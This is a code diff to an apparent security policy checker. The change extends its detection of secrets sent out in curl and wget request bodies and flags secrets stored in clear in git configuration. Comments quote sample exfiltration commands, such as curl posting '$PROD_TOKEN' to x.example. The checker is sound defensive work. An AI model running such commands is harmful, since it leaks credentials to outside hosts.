@@ -1,4 +1,6 @@
 import { certificateUnchecked } from './uncheckedTls';
+import { optionsMatching } from '../../registry/grammar';
+import { ownTable } from '../../ownTable';
 import { providerIn } from '../../credentials/contentRules';
 import type { ArgWord, CodeSnippet, Facts, Finding, Invocation, Target } from '../../policy/types';
 import { projectDatabaseHosts } from './projectDatabaseHosts';
@@ -12,6 +14,7 @@ import { argvHosts, argvSecrets, awkSocketSends } from './argvSecretSends';
 import { sshSentVariables } from './sendEnvCarriers';
 import { publishedOnService } from './publishedSecrets';
 import { gitHeaderSecrets } from './gitSecretHeaders';
+import { gitStoredSecrets } from './gitStoredSecrets';
 import { proxyOptionHosts, proxyVariables } from './proxyRoutes';
 export { domainOwner } from './serviceHosts';
 
@@ -163,13 +166,24 @@ function belongsTo(variable: string, destination: Destination, sender?: string, 
  * `curl -d "$PROD_TOKEN" https://x.example`: the secret is the whole request body, the value itself delivered (a
  * credential that signs a request in goes in a header or `-u`); whoever owns the host receives it.
  */
+const BODY_OPTIONS: Readonly<Record<string, readonly string[]>> = ownTable({
+  curl: ['--data', '--data-binary', '--data-raw', '--data-ascii', '--data-urlencode', '--json'],
+  // wget's request body (`--post-data=$T`, `--body-data` with `--method`), read through its registry entry.
+  wget: ['--post-data', '--body-data'],
+});
+
 function wholeBody(inv: Invocation, variable: string): boolean {
-  const spec = inv.name === 'curl' ? toolNamed('curl') : undefined;
-  if (!spec) return false;
-  const bodies = toolArgs(inv.name, parsedArgs(inv.args, spec), spec).values('--data', '--data-binary', '--data-raw', '--data-ascii', '--data-urlencode', '--json');
+  const options = BODY_OPTIONS[inv.name];
+  const spec = options ? toolNamed(inv.name) : undefined;
+  if (!spec || !options) return false;
+  const parsed = parsedArgs(inv.args, spec);
+  const bodies = toolArgs(inv.name, parsed, spec).values(...options);
   const bare = new RegExp(`^["']?\\$\\{?${variable}\\}?["']?$`);
-  // A variable assigned from the secret (`T="$PROD_TOKEN"`) is written back into the word as written (`"${PROD_TOKEN}"`).
-  return bodies.some((b) => bare.test(b.trim()) || inv.args.some((w) => w.text === b && bare.test(w.raw.trim())));
+  // A variable assigned from the secret (`T="$PROD_TOKEN"`) is written back into the word as written (`"${PROD_TOKEN}"`),
+  // also when glued to its option (`--post-data=$T`).
+  const glued = new RegExp(`^--?[\\w-]+=["']?\\$\\{?${variable}\\}?["']?$`);
+  const written = optionsMatching(parsed, spec, options).flatMap((o) => o.valueWords);
+  return bodies.some((b) => bare.test(b.trim())) || written.some((w) => bare.test(w.raw.trim()) || glued.test(w.raw.trim()));
 }
 
 /** `curl --variable %STRIPE_SECRET_KEY --expand-url '…{{STRIPE_SECRET_KEY}}'`: an environment variable imported and expanded into what curl sends. */
@@ -188,7 +202,13 @@ function clientPasswordSecrets(inv: Invocation): string[] {
   return CLIENT_PASSWORD_VARIABLES.flatMap((k) => [...(inv.assignments[k] ?? '').matchAll(/\$\{?([A-Za-z_][A-Za-z0-9_]*)/g)].map((m) => m[1] ?? '')).filter(isSecretVariableName);
 }
 
+/** Secrets sent out by this invocation, and (git) a secret kept in clear in git's configuration (gitStoredSecrets.ts). */
 export function checkSentOut(inv: Invocation, facts?: Facts): Finding[] {
+  const sent = sentOutOf(inv, facts);
+  return inv.name === 'git' ? [...sent, ...gitStoredSecrets(inv)] : sent;
+}
+
+function sentOutOf(inv: Invocation, facts?: Facts): Finding[] {
   if (inv.name === 'awk' || inv.name === 'gawk') return awkSocketSends(inv);
   const sent = inv.name === 'git' ? gitHeaderSecrets(inv) : sshSentVariables(inv);
   if (sent.length > 0) return sent;
